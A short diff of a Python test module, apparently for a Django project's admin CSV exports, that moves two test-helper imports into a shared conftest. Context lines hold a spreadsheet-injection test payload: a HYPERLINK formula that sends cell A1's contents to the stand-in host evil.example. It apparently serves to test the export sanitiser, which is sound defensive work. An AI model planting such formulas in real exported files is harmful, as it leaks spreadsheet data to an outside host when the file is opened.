@@ -15,10 +15,9 @@ from django.utils import timezone
 from campaign.admin import SignatureAdmin, export_confirmed_signatures
 from campaign.models import Petition, Signature
 from common.exports import csv_safe
+from conftest import make_detainee, make_donation
 from donations.admin import DonationAdmin
 from donations.models import Donation
-from donations.tests.conftest import make_donation
-from prisoners.tests.conftest import make_detainee
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
